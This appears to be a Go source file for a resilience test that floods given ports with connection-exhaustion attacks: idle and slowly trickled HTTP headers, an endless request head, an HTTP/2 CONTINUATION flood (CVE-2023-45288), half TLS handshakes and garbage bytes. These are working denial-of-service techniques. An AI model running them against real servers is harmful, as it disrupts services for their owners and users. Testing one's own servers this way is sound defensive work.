package main

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// dialEvery is the pause between two conns of the whole attack. The attack must exhaust its targets, but not the
	// machine, whose processors the laptops of the test share.
	dialEvery = 2 * time.Millisecond
	// hugeHead is the size of a head that does not end: the default limit of net/http.
	hugeHead = 1 << 20
	// dialTimeout is generous, because the machine is busy.
	dialTimeout = 10 * time.Second
)

// method is one way to misuse a conn. It returns when it is done, or when the conn is closed.
type method struct {
	workers int // conns at once, for each port
	run     func(context.Context, net.Conn) error
}

// methods returns the ways to attack a port by name.
func methods() map[string]method {
	head, garbage := endlessHead(), randomBytes(64<<10)
	return map[string]method{
		"idle":    {60, hold},
		"trickle": {60, trickle},
		"head":    {32, func(ctx context.Context, c net.Conn) error { return send(ctx, c, head) }},
		"http2":   {32, continuations},
		"tls":     {60, func(ctx context.Context, c net.Conn) error { return send(ctx, c, []byte(halfClientHello)) }},
		"garbage": {2, func(ctx context.Context, c net.Conn) error { return send(ctx, c, garbage) }},
		"close":   {2, func(context.Context, net.Conn) error { return nil }},
	}
}

// report counts the conns that the attack established, by port (ADDRESS:PORT) and method.
type report map[string]map[string]int

// attacker attacks ports until its context ends.
type attacker struct {
	turns <-chan time.Time // one for each conn

	mu   sync.Mutex
	done report
}

// runAttack attacks ports (ADDRESS:PORT), and then writes a report as JSON. Before that, it writes a line as soon as it
// has attacked each port by each method.
func runAttack(ctx context.Context, args []string) error {
	flags := flag.NewFlagSet("attack", flag.ContinueOnError)
	limit := flags.Duration("for", time.Minute, "duration of the attack, unless a signal ends it")
	if err := flags.Parse(args); err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(ctx, *limit)
	defer cancel()
	targets := flags.Args()
	a := &attacker{turns: time.Tick(dialEvery), done: report{}}
	ways := methods()
	var workers, first sync.WaitGroup
	for _, target := range targets {
		a.done[target] = map[string]int{}
	}
	for _, target := range targets {
		for name, m := range ways {
			first.Add(m.workers)
			for range m.workers {
				workers.Go(func() { a.work(ctx, target, name, m, first.Done) })
			}
		}
	}
	first.Wait()
	fmt.Printf("attacking %d ports\n", len(targets))
	workers.Wait()
	return json.NewEncoder(os.Stdout).Encode(a.done)
}

func dial(ctx context.Context, target string) (net.Conn, error) {
	d := net.Dialer{Timeout: dialTimeout}
	return d.DialContext(ctx, "tcp", target)
}

// work attacks a port by one conn after the other. It calls first after its first attempt.
func (a *attacker) work(ctx context.Context, target, name string, m method, first func()) {
	first = sync.OnceFunc(first)
	defer first()
	for {
		select {
		case <-ctx.Done():
			return
		case <-a.turns:
		}
		conn, err := dial(ctx, target)
		if err != nil {
			first()
			continue
		}
		a.mu.Lock()
		a.done[target][name]++
		a.mu.Unlock()
		first()
		stop := context.AfterFunc(ctx, func() { conn.Close() })
		_ = m.run(ctx, conn) // the port may close it at any time, and should
		stop()
		conn.Close()
	}
}

// hold keeps a conn until the port closes it.
func hold(_ context.Context, conn net.Conn) error {
	_, err := io.Copy(io.Discard, conn)
	return err
}

// send sends the beginning of a message, and then nothing.
func send(ctx context.Context, conn net.Conn, b []byte) error {
	if _, err := conn.Write(b); err != nil {
		return err
	}
	return hold(ctx, conn)
}

// trickle sends a request whose head never ends, a line each second.
func trickle(ctx context.Context, conn net.Conn) error {
	line := "GET / HTTP/1.1\r\nHost: victim\r\n"
	for tick := time.NewTicker(time.Second); ; {
		if _, err := io.WriteString(conn, line); err != nil {
			return err
		}
		line = "X-More: to come\r\n"
		select {
		case <-ctx.Done():
			tick.Stop()
			return ctx.Err()
		case <-tick.C:
		}
	}
}

// endlessHead returns a request with as many header lines as a server holds, and no end. Short lines need the most
// memory.
func endlessHead() []byte {
	b := bytes.NewBufferString("GET / HTTP/1.1\r\nHost: victim\r\n")
	for n := 0; b.Len() < hugeHead; n++ {
		fmt.Fprintf(b, "%x:\r\n", n)
	}
	return b.Bytes()[:hugeHead]
}

// continuations sends an HTTP/2 request whose head continues in frame after frame (CVE-2023-45288) and does not end.
func continuations(ctx context.Context, conn net.Conn) error {
	const fragment = 8 << 10 // at most a frame's 16 KiB
	framer := http2.NewFramer(conn, conn)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	var fields bytes.Buffer
	encoder := hpack.NewEncoder(&fields)
	next := []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: "/"},
	}
	for begun, sent := false, 0; sent < hugeHead; begun = true {
		fields.Reset()
		for n := 0; fields.Len() < fragment; n++ {
			next = append(next, hpack.HeaderField{Name: fmt.Sprintf("%x-%x", sent, n), Sensitive: true}) // in no table
			for _, f := range next {
				_ = encoder.WriteField(f) // a bytes.Buffer never fails
			}
			next = next[:0]
		}
		sent += fields.Len()
		send := func() error { return framer.WriteContinuation(1, false, fields.Bytes()) }
		if !begun {
			send = func() error {
				return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields.Bytes()})
			}
		}
		if err := send(); err != nil {
			return err
		}
	}
	return hold(ctx, conn)
}

// halfClientHello is the beginning of a TLS handshake: a record of 512 bytes, of which 38 follow.
const halfClientHello = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03half of the random bytes of a hello"

func randomBytes(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(rand.Uint32())
	}
	return b
}
